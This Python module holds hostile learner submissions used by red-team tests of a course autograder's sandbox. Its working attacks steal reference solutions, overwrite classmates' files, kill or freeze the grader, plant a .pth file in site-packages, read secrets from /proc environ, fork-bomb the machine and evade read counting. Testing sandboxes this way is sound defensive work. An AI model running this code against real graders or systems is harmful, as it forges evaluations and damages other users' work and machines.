"""Hostile submissions: each one a learner's file that tries one way to forge a score, harm a
classmate, persist, leak or forge a measurement. Shared by the red-team tests.

Every submission here earns its points only if its attack works: it either takes the answer from
somewhere it must not (the references, a classmate's code) and returns it, or it returns a right
answer only after its attack succeeded. So "no forged score" is "no points", and at the basic
isolation level (no jail) the attacks marked ``contrast`` must earn their points or leave their
mark, which shows that the protection, not a broken attack, makes the strict test pass.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

# Harm, persistence and processes are judged by their effects: the function does its damage and
# returns a wrong answer.
_WRONG = '''
def coalesce_runs(runs, max_gap):
    try:
        attack()
    except BaseException:
        pass
    return []
'''

# A correct coalesce_runs (problem 4.3), returned only after an attack worked.
_CORRECT = '''
def _right(runs, max_gap):
    out = []
    for off, ln in sorted(runs):
        if out and off - (out[-1][0] + out[-1][1]) <= max_gap:
            out[-1] = (out[-1][0], max(out[-1][0] + out[-1][1], off + ln) - out[-1][0])
        else:
            out.append((int(off), int(ln)))
    return out


def coalesce_runs(runs, max_gap):
    try:
        worked = attack()
    except BaseException:
        worked = False
    return _right(runs, max_gap) if worked else []
'''

# A read_shard (problem 4.4) that reads the shard's bytes in a way the grader must count (or
# refuse): ``grab(path, start, size)`` returns the tensor's bytes.
_READER = '''
import json as _json
import numpy as _np

_DT = {"F64": "float64", "F32": "float32", "F16": "float16", "I64": "int64", "I32": "int32", "I16": "int16",
       "I8": "int8", "U64": "uint64", "U32": "uint32", "U16": "uint16", "U8": "uint8", "BOOL": "bool"}


def read_shard(path, name, bounds):
    with open(path, "rb", buffering=0) as f:
        n = int.from_bytes(f.read(8), "little")
        header = _json.loads(f.read(n))
    info = header[name]
    dtype = _np.dtype(_DT[info["dtype"]])
    start, end = info["data_offsets"]
    try:
        raw = grab(path, 8 + n + start, end - start)
    except BaseException:
        raw = bytes(end - start)
    full = _np.frombuffer(raw, dtype=dtype).reshape(info["shape"])
    return _np.array(full[tuple(slice(a, b) for a, b in bounds)])
'''


EFFECTS = ("harm", "persist", "process")  # judged by what they do, not by points


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # score, harm, persist, leak, measure, process, channel
    problem: str  # the problem id it defines
    code: str  # defines attack() (4.3) or grab() (4.4), or the whole function
    contrast: bool = True  # safe to run without the jail, where it must work
    doc: str = ""

    def source(self, constants: dict) -> str:
        head = "".join(f"{k} = {v!r}\n" for k, v in sorted(constants.items()))
        tail = ""
        if self.problem == "4.3" and not re.search(r"^def coalesce_runs", self.code, re.MULTILINE):
            tail = _WRONG if self.kind in EFFECTS else _CORRECT
        tail = _READER if self.problem == "4.4" else tail
        return head + "\nimport os, sys, signal, socket, glob, time\n" + _BATCH + self.code + "\n" + tail


# Every submission can look for the grade-batch process: its command line names the submissions
# and results folders.
_BATCH = '''

def _batch_processes():
    for pid in [e for e in os.listdir("/proc") if e.isdigit()]:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"grade-batch" in argv:
            yield pid, argv

'''

_UNIX_SEND = '''
def attack():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(ADDRESS)
    s.sendall(LEARNER.encode())
    s.close()
    return True
'''


def _load_ref(path_expr: str) -> str:
    """An attack that loads solutions/unit4.py from a path and returns the reference's answer."""
    return f'''
def coalesce_runs(runs, max_gap):
    import importlib.util
    try:
        for path in {path_expr}:
            if os.path.exists(path):
                spec = importlib.util.spec_from_file_location("stolen", path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module.coalesce_runs(runs, max_gap)
    except BaseException:
        pass
    return []
'''


# For 4.4 attacks that read in another process: bytes handed over in anonymous shared memory,
# which no read() counts.
_HAND_OVER = '''
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]


def _shared(size):
    return _libc.mmap(None, size + 1, 3, 0x01 | 0x20, -1, 0)  # anonymous, shared


def _read_into(shared, path, start, size):  # in the other process, which then ends
    with open(path, "rb") as f:
        f.seek(start)
        ctypes.memmove(shared, f.read(size), size)
    ctypes.memset(shared + size, 1, 1)
    os._exit(0)


def _handed_over(shared, size):
    while ctypes.string_at(shared + size, 1) != b"\\x01":
        time.sleep(0.001)
    return ctypes.string_at(shared, size)
'''


ATTACKS = [
    # --- a score without solving ---------------------------------------------------------------
    Attack("meta_path", "score", "4.3", '''
def coalesce_runs(runs, max_gap):
    sys.meta_path[:] = [f for f in sys.meta_path if "Hidden" not in type(f).__name__]
    try:
        from solutions.unit4 import coalesce_runs as ref
        return ref(runs, max_gap)
    except BaseException:
        return []
''', doc="re-enable the blocked import by editing sys.meta_path"),
    Attack("module_file", "score", "4.3", _load_ref(
        "[os.path.join(os.path.dirname(os.path.dirname(__import__('ckptlab').__file__)), 'solutions', 'unit4.py')]"),
        doc="load solutions/ by path from a public module's __file__"),
    Attack("module_paths", "score", "4.3", _load_ref(
        "[os.path.join(d, 'solutions', 'unit4.py') for m in list(sys.modules.values()) "
        "for f in [getattr(m, '__file__', None) or ''] if f "
        "for d in [os.path.dirname(f), *[f.rsplit('/', k)[0] for k in range(2, f.count('/'))]]]"),
        doc="load solutions/ by path from the folders of every loaded module and their parents"),
    Attack("proc_cwd", "score", "4.3", _load_ref(
        "[f'/proc/{p}/cwd/solutions/unit4.py' for p in [os.getppid()] + [e for e in os.listdir('/proc') if e.isdigit()]]"),
        doc="load solutions/ through /proc/<pid>/cwd of the grading process"),
    Attack("known_path", "score", "4.3", _load_ref("[ROOT + '/solutions/unit4.py']"),
           doc="load solutions/ from where the course lives"),
    Attack("proc_self_root", "score", "4.3", _load_ref(
        "['/proc/self/root' + ROOT + '/solutions/unit4.py', '/proc/self/cwd/../../' + ROOT + '/solutions/unit4.py']"),
        doc="load solutions/ through the worker's own /proc entry (its root and cwd links), which it may read"),
    Attack("hidden_source", "leak", "4.3", '''
def attack():
    return "def _coalesce_cases" in open(ROOT + "/autograder/hidden/unit4.py").read()
''', doc="read the hidden tests' source"),
    Attack("classmate_code", "score", "4.3", '''
def coalesce_runs(runs, max_gap):
    for _, argv in _batch_processes():
        folder = argv[argv.index(b"grade-batch") + 1].decode()
        for path in glob.glob(os.path.join(folder, "*.py")):
            if LEARNER not in path:
                scope = {}
                try:
                    exec(open(path).read(), scope)
                    return scope["coalesce_runs"](runs, max_gap)
                except BaseException:
                    continue
    return []
''', doc="find the submissions folder from grade-batch's command line and call a classmate's function"),
    # --- a forged result, harm to classmates -----------------------------------------------------
    Attack("forge_and_kill", "harm", "4.3", '''
def attack():
    import json
    for pid, argv in _batch_processes():
        if b"--out" in argv:
            out = argv[argv.index(b"--out") + 1].decode()
            os.makedirs(os.path.join(out, "learners"), exist_ok=True)
            with open(os.path.join(out, "learners", LEARNER + ".json"), "w") as f:
                json.dump({"learner": LEARNER, "score": 999.0, "max_score": 999.0, "problems": []}, f)
            os.kill(int(pid), signal.SIGKILL)
            return True
    return False
''', contrast=False, doc="write its own full-marks result, then kill the batch so a re-run skips it"),
    Attack("overwrite_classmate", "harm", "4.3", '''
def attack():
    for _, argv in _batch_processes():
        folder = argv[argv.index(b"grade-batch") + 1].decode()
        for path in glob.glob(os.path.join(folder, "*.py")):
            if LEARNER not in path:
                open(path, "w").write("def coalesce_runs(runs, max_gap):\\n    return []\\n")
        return True
    return False
''', contrast=False, doc="overwrite classmates' submissions before they are graded"),
    Attack("daemon", "harm", "4.3", '''
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            deadline = time.time() + 120
            while time.time() < deadline:
                for path in glob.glob("/tmp/ckpt-worker-*/.result.json") + glob.glob(RESULTS + "/learners/*.json"):
                    try:
                        open(path, "w").write('{"forged": true}')
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.3)
    return any(os.path.exists(p) for p in glob.glob("/tmp/ckpt-worker-*"))
''', contrast=False, doc="a detached daemon (double fork + setsid) rewriting later results"),
    Attack("stop_grader", "harm", "4.3", '''
def attack():
    hit = False
    pids = [p for p in [os.getppid()] if p > 0]
    try:
        pids += [int(e) for e in os.listdir("/proc") if e.isdigit()]
    except OSError:
        pass
    for pid in pids:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            argv = b""
        if pid == os.getppid() or (b"autograder" in argv and pid != os.getpid()):
            try:
                os.kill(pid, signal.SIGSTOP)
                hit = True
            except OSError:
                pass
    return hit
''', contrast=False, doc="SIGSTOP the grading processes so nobody is graded"),
    Attack("kill_everything", "harm", "4.3", '''
def attack():
    try:
        os.kill(-1, signal.SIGKILL)
        return True
    except OSError:
        return False
''', contrast=False, doc="kill every process the user may signal"),
    Attack("kill_group", "harm", "4.3", '''
def attack():
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        return True
    except OSError:
        return False
''', contrast=False, doc="kill the grader's process group"),
    Attack("ptrace_grader", "leak", "4.3", '''
def attack():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    pids = [os.getppid()]
    try:
        pids += [int(e) for e in os.listdir("/proc") if e.isdigit()]
    except OSError:
        pass
    for pid in pids:
        if pid > 1 and pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
            return True
    return False
''', contrast=False, doc="ptrace-attach the grading process"),
    # --- persistence -----------------------------------------------------------------------------
    Attack("pth_file", "persist", "4.3", '''
def attack():
    open(SITE + "/ckpt_hostile_" + TOKEN + ".pth", "w").write("import os\\n")
    return True
''', contrast=False, doc="a .pth in site-packages, loaded by every later Python"),
    Attack("patch_grader", "persist", "4.3", '''
def attack():
    open(ROOT + "/autograder/engine/grade.py", "a").write("\\n# hostile\\n")
    return True
''', contrast=False, doc="append code to autograder/engine/grade.py"),
    Attack("patch_reference", "persist", "4.3", '''
def attack():
    open(ROOT + "/solutions/unit2.py", "a").write("\\n# hostile\\n")
    return True
''', contrast=False, doc="append code to a reference solution"),
    # --- leaks -------------------------------------------------------------------------------------
    Attack("salt_parent", "leak", "4.3", '''
def attack():
    return b"CKPT_COURSE_SALT=" in open(f"/proc/{os.getppid()}/environ", "rb").read()
''', doc="read the salt from the grading process's environment"),
    Attack("salt_scan", "leak", "4.3", '''
def attack():
    for e in os.listdir("/proc"):
        try:
            if e.isdigit() and b"CKPT_COURSE_SALT=" in open(f"/proc/{e}/environ", "rb").read():
                return True
        except OSError:
            pass
    return False
''', doc="find the salt in any process's environment"),
    Attack("salt_env", "leak", "4.3", '''
def attack():
    return "CKPT_COURSE_SALT" in os.environ
''', contrast=False, doc="the salt in its own environment (scrubbed at every level)"),
    Attack("tcp", "leak", "4.3", '''
def attack():
    s = socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2)
    s.sendall(LEARNER.encode())
    s.close()
    return True
''', doc="send data over TCP"),
    Attack("udp", "leak", "4.3", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(LEARNER.encode(), ("127.0.0.1", UDP_PORT))
    return True
''', doc="send data over UDP"),
    Attack("unix_socket", "leak", "4.3", _UNIX_SEND.replace("ADDRESS", "UNIX_PATH"),
           doc="send data to a unix socket on the machine"),
    Attack("abstract_socket", "leak", "4.3", _UNIX_SEND.replace("ADDRESS", "ABSTRACT"),
           doc="send data to an abstract unix socket"),
    Attack("write_tmp", "leak", "4.3", '''
def attack():
    open(TMP_MARK + "-" + LEARNER, "w").write("x")
    return True
''', doc="write outside its folder: /tmp"),
    Attack("write_home", "leak", "4.3", '''
def attack():
    import pwd
    open(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, HOME_NAME + "-" + LEARNER), "w").write("x")
    return True
''', contrast=False, doc="write outside its folder: the user's home"),
    Attack("write_progress", "leak", "4.3", '''
def attack():
    open(os.path.join(PROGRESS, "progress.jsonl"), "a").write('{"forged": true}\\n')
    return True
''', doc="write into the progress store"),
    Attack("read_results", "leak", "4.3", '''
def attack():
    os.listdir(RESULTS)
    return True
''', doc="look into the instructor's results"),
    # --- processes -------------------------------------------------------------------------------
    Attack("leave_process", "process", "4.3", '''
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    return True
''', doc="leave a detached process behind"),
    Attack("fork_bomb", "process", "4.3", '''
def attack():
    kids = []
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        kids.append(pid)
    return True
''', contrast=False, doc="a fork bomb"),
    Attack("thread_bomb", "process", "4.3", '''
def attack():
    import threading
    stop = threading.Event()
    n = 0
    while n < 100_000:
        try:
            threading.Thread(target=stop.wait, daemon=True).start()
        except RuntimeError:
            break
        n += 1
    return True
''', contrast=False, doc="threads until none more can start (each one a task the kernel counts)"),
    Attack("fill_scratch", "harm", "4.3", '''
def attack():
    n = 0
    try:
        while True:
            with open(os.path.join(os.environ["TMPDIR"], f"fill{n}"), "wb") as f:
                f.write(b"x" * (2**20 if n < 2000 else 1))
            n += 1
    except OSError:
        pass
    return True
''', contrast=False, doc="fill its scratch folder's disk, then its inodes"),
    # --- file metadata: Landlock does not cover it ------------------------------------------------
    Attack("chmod_course", "harm", "4.3", '''
def attack():
    done = 0
    for path, mode in ((os.path.join(ROOT, "solutions", "unit2.py"), 0o6777),  # setuid, as a root grader's file
                       (os.path.join(ROOT, "autograder", "hidden", "unit2.py"), 0o666),
                       (os.path.join(ROOT, "README.md"), 0o000)):
        try:
            os.chmod(path, mode)
            done += 1
        except OSError:
            pass
    os.chmod(os.environ["TMPDIR"], 0)  # its own scratch folder, which the grader must still remove
    return done > 0
''', contrast=False, doc="chmod course files (a setuid bit, world-writable hidden tests) and its own scratch"),
    Attack("watch_classmates", "harm", "4.3", '''
def attack():
    import ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify refused")
    parent = os.path.dirname(os.environ["TMPDIR"])
    if libc.inotify_add_watch(fd, parent.encode(), 0x100) < 0:  # IN_CREATE
        raise OSError(ctypes.get_errno(), "watch refused")
    end = time.time() + 15
    while time.time() < end:  # every classmate's new scratch folder made unreadable
        try:
            data = os.read(fd, 65536)
        except BlockingIOError:
            time.sleep(0.005)
            continue
        while data:
            _, _, _, n = struct.unpack_from("iIII", data)
            name = data[16:16 + n].split(b"\\0")[0].decode()
            data = data[16 + n:]
            if name.startswith("ckpt-worker-"):
                try:
                    os.chmod(os.path.join(parent, name), 0)
                except OSError:
                    pass
    return True
''', contrast=False, doc="watch the scratch folders' parent with inotify and chmod each classmate's new one to 000"),
    # --- forged measurements (4.4: bytes read) -----------------------------------------------------
    Attack("whole_file_read", "measure", "4.4", '''
def _patch_json():
    """Run at load time (a default argument): a worker that counts reads in its own process and
    reports them with json gets its report rewritten."""
    import json
    real = json.dump

    def zero_counts(obj, *args, **kwargs):
        for case in obj.get("cases", []) if isinstance(obj, dict) else []:
            if isinstance(case, dict) and "read_bytes" in case:
                case["read_bytes"] = 0
        return real(obj, *args, **kwargs)

    json.dump = zero_counts
    return True


def grab(path, start, size, _patched=_patch_json()):
    return open(path, "rb").read()[start:start + size]
''', contrast=False, doc="read the whole file, and rewrite the worker's own report of the count"),
    Attack("ctypes_mmap", "measure", "4.4", '''
def grab(path, start, size):
    import ctypes, mmap as _mmap
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    fd = os.open(path, os.O_RDONLY)
    length = os.fstat(fd).st_size
    addr = libc.mmap(None, length, 1, 2, fd, 0)  # PROT_READ, MAP_PRIVATE
    if addr in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap refused")
    return ctypes.string_at(addr + start, size)
''', doc="map the whole file with libc's mmap (the kernel does not count mapped bytes as read)"),
    Attack("unseal_then_mmap", "measure", "4.4", '''
def _unseal():
    """Run at load time (a default argument): the worker's read seal, looked up when it is
    installed, made a no-op."""
    jail = sys.modules.get("autograder.sandbox.jail")
    if jail is not None:
        jail.seal_reads = lambda confinement: None


def grab(path, start, size, _unsealed=_unseal()):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    fd = os.open(path, os.O_RDONLY)
    addr = libc.mmap(None, os.fstat(fd).st_size, 1, 2, fd, 0)  # PROT_READ, MAP_PRIVATE
    if addr in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap refused")
    return ctypes.string_at(addr + start, size)
''', doc="rebind the worker's read seal at load time, then map the whole file (uncounted)"),
    Attack("grandchild_read", "measure", "4.4", _HAND_OVER + '''
def grab(path, start, size):
    shared = _shared(size)
    if os.fork() == 0:
        if os.fork() == 0:  # a grandchild, orphaned at once: reparented away from the worker's tree
            _read_into(shared, path, start, size)
        os._exit(0)
    os.wait()
    return _handed_over(shared, size)
''', doc="read in an orphaned grandchild and hand the bytes over in shared memory"),
    Attack("reaped_child_read", "measure", "4.4", _HAND_OVER + '''
def grab(path, start, size):
    shared = _shared(size)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the kernel reaps the child itself: its counts vanish
    if os.fork() == 0:
        _read_into(shared, path, start, size)
    result = _handed_over(shared, size)
    time.sleep(0.05)  # reaped by now
    return result
''', doc="read in a child the kernel reaps by itself (SIGCHLD ignored), so it is never counted"),
    Attack("preload", "measure", "4.4", '''
def _read_everything():
    """Run at load time (a default argument), before any read is counted: every file in reach."""
    cache = {}
    for name in os.listdir("."):
        if name.endswith(".safetensors"):
            cache[name] = open(name, "rb").read()
    return cache


def grab(path, start, size, _cache=_read_everything()):
    return _cache[os.path.basename(path)][start:start + size]
''', contrast=False, doc="read every file at load time, before the reads are counted"),
    # --- tampered inputs: the references must not read what learner code can write ------------------
    Attack("rewrite_inputs", "score", "4.1", '''
_FIXED = b'{"x":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'


def _rewrite_everything():
    """Run at load time (a default argument): every input file in reach becomes one fixed file."""
    for name in os.listdir("."):
        if name.endswith(".safetensors"):
            with open(name, "wb") as f:
                f.write(len(_FIXED).to_bytes(8, "little") + _FIXED + bytes(4))
    return True


def parse_safetensors_header(path, _done=_rewrite_everything()):
    import json
    return json.loads(_FIXED), 8 + len(_FIXED)
''', contrast=False, doc="rewrite its input files, so that the references compute answers from them too"),
]



# ---------------------------------------------------------------------------------------------
# The surfaces Units 3, 5 and 6 added (issue 35): a run the grader kills and restarts (5.3), memory
# measured from outside (6.1, 6.2), arrays a worker sends back (3.3, 6.1). Each graded as a class by
# tests/sandbox/test_hostile.py and one by one by the unit tests beside the protection.

LEAVES_A_MESS = """
import os


def train_with_preemption(ckpt_dir, total_steps, seed):
    os.makedirs(ckpt_dir, exist_ok=True)
    top = os.environ["TMPDIR"]
    for c in range(30):
        os.makedirs(os.path.join(top, f"c{c}", *["d"] * 49))
    for c in range(28, -1, -1):
        os.rename(os.path.join(top, f"c{c + 1}"), os.path.join(top, f"c{c}", *["d"] * 49, "next"))
    os.mkdir(os.path.join(top, "locked"), 0o300)
    open(os.path.join(top, "locked", "inside"), "w").write("x")
    return {}, 0
"""

CROWDS = """
import os
import time


def train_with_preemption(ckpt_dir, total_steps, seed):
    os.makedirs(ckpt_dir, exist_ok=True)
    for n in range(19000):  # empty files named like steps, for the grader to look at every 2 ms
        open(os.path.join(ckpt_dir, str(100000 + n)), "w").close()
    time.sleep(60)
    return {}, 0
"""

FAKES_ITS_FOLDERS = """
import os
import time

from ckptlab import training


def train_with_preemption(ckpt_dir, total_steps, seed):
    os.makedirs(ckpt_dir, exist_ok=True)
    done = [int(n) for n in os.listdir(ckpt_dir)
            if n.isdigit() and os.path.exists(os.path.join(ckpt_dir, n, "commit_success.txt"))]
    first = max(done, default=0)
    model = training.make_model(seed)
    optimizer = training.make_optimizer(model)
    batches = training.Batches(seed)
    step = training.train_step()
    for s in range(total_steps):  # from scratch, in memory: training is deterministic
        step(model, optimizer, *next(batches))
        if s + 1 > first:  # folders shaped like saves, just ahead of each planned kill
            tmp = os.path.join(ckpt_dir, f"{s + 1}.orbax-checkpoint-tmp")
            os.makedirs(tmp, exist_ok=True)
            time.sleep(0.05)
            os.rename(tmp, os.path.join(ckpt_dir, str(s + 1)))
            open(os.path.join(ckpt_dir, str(s + 1), "commit_success.txt"), "w").write("ok")
            time.sleep(0.05)
    return training.params_of(model), first
"""

POSING = '''
import jax
import jax.numpy as jnp
import numpy as np
import orbax.checkpoint as ocp
from jax.sharding import NamedSharding


class _Shard:
    def __init__(self, device, data):
        self.device, self.data = device, data


def _posing(value, sharding):
    cls = type("ArrayImpl", (), {"__module__": "jaxlib._jax", "__array__": lambda self, *a, **k: value})
    fake = cls()
    fake.shape, fake.dtype, fake.sharding = value.shape, value.dtype, sharding
    fake.addressable_shards = [_Shard(d, value[i]) for d, i in sharding.addressable_devices_indices_map(value.shape).items()]
    return fake


def restore_for_serving(ckpt_dir, mesh, specs):
    """The parameters restored as NumPy (no target sharding), each posing as a placed jax.Array."""
    saved = ocp.StandardCheckpointer().metadata(ckpt_dir).item_metadata.tree["params"]
    target = {"params": {k: jax.ShapeDtypeStruct(saved[k].shape, jnp.bfloat16) for k in specs}}
    args = jax.tree.map(lambda _: ocp.RestoreArgs(restore_type=np.ndarray, dtype=jnp.bfloat16), target)
    restored = ocp.PyTreeCheckpointer().restore(ckpt_dir, args=ocp.args.PyTreeRestore(
        item=target, restore_args=args, partial_restore=True))
    return {k: _posing(np.asarray(v), NamedSharding(mesh, specs[k])) for k, v in restored["params"].items()}
'''


def reference(unit: int, rename: dict | None = None) -> str:
    """A reference file's text as part of a submission (its future import dropped: a submission's
    text may be prefixed), its functions renamed as asked."""
    text = (ROOT / "solutions" / f"unit{unit}.py").read_text().replace("from __future__ import annotations\n", "")
    for old, new in (rename or {}).items():
        text = text.replace(f"def {old}(", f"def {new}(")
    return text


# Pages given back to the kernel (MADV_DONTNEED): what lowered a peak from inside. The right answer
# only once the advice was taken, so that points mean the advice was allowed (at the basic level,
# with no jail, they must be earned: the contrast).
_GIVES_BACK = '''
def _given_back():
    import ctypes
    import mmap
    buf = mmap.mmap(-1, 2**20)
    buf.write(b"x" * 2**20)
    libc = ctypes.CDLL(None, use_errno=True)
    address = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    return libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(2**20), 4) == 0
'''

POSING_RESHARD = '''
import jax
import numpy as np
import orbax.checkpoint as ocp
from jax.sharding import NamedSharding, PartitionSpec
''' + POSING.split("def restore_for_serving")[0].split("from jax.sharding import NamedSharding")[1] + '''

def restore_resharded(ckpt_dir, mesh, specs):
    """Restored as NumPy (no target sharding), each leaf posing as a placed jax.Array."""
    saved = dict(ocp.StandardCheckpointer().metadata(ckpt_dir).item_metadata.tree)
    args = jax.tree.map(lambda spec: ocp.RestoreArgs(restore_type=np.ndarray), specs,
                        is_leaf=lambda x: isinstance(x, PartitionSpec))
    restored = ocp.PyTreeCheckpointer().restore(ckpt_dir, args=ocp.args.PyTreeRestore(
        item=jax.tree.map(lambda m: 0, saved), restore_args=args))
    return jax.tree.map(lambda spec, v: _posing(np.asarray(v), NamedSharding(mesh, spec)), specs, restored,
                        is_leaf=lambda x: isinstance(x, PartitionSpec))
'''

SURFACES = [
    Attack("forge_resume", "score", "5.3", FAKES_ITS_FOLDERS, contrast=False,
           doc="never save: folders shaped like saves ahead of each kill, training from scratch in memory"),
    Attack("leave_a_mess", "harm", "5.3", LEAVES_A_MESS, contrast=False,
           doc="a 1,500-deep chain of folders and an unlistable one left in its kept scratch folder"),
    Attack("crowd_the_run_folder", "harm", "5.3", CROWDS, contrast=False,
           doc="19,000 names shaped like steps in the run folder the grader watches"),
    Attack("give_back_restoring", "score", "6.1", _GIVES_BACK + reference(6, {"restore_for_serving": "_right", "convert_safetensors": "_unused"}) + '''

def restore_for_serving(ckpt_dir, mesh, specs):
    return _right(ckpt_dir, mesh, specs) if _given_back() else None
''', doc="give pages back to the kernel (MADV_DONTNEED) while measured"),
    Attack("give_back_converting", "score", "6.2", _GIVES_BACK + reference(6, {"convert_safetensors": "_right", "restore_for_serving": "_unused"}) + '''

def convert_safetensors(st_path, out_dir, rename, mesh, specs):
    if _given_back():
        _right(st_path, out_dir, rename, mesh, specs)
''', doc="give pages back to the kernel (MADV_DONTNEED) while measured"),
    Attack("pose_as_served", "score", "6.1", POSING, contrast=False,
           doc="host arrays restored without a target sharding, posing as placed jax.Arrays"),
    Attack("pose_as_resharded", "score", "3.3", POSING_RESHARD, contrast=False,
           doc="host arrays restored without a target sharding, posing as placed jax.Arrays"),
]

assert len({a.name for a in ATTACKS + SURFACES}) == len(ATTACKS) + len(SURFACES)


def cpu_hog(signature: str) -> str:
    """A function that starts 300 busy processes, each in a session of its own (the scheduler's
    autogroups would give each one a share as large as a whole worker's), then waits."""
    return f"""
import os, time

def {signature}:
    for _ in range(300):
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass  # refused: busy all the same
                while True:
                    pass
        except OSError:
            break
    time.sleep(600)
"""
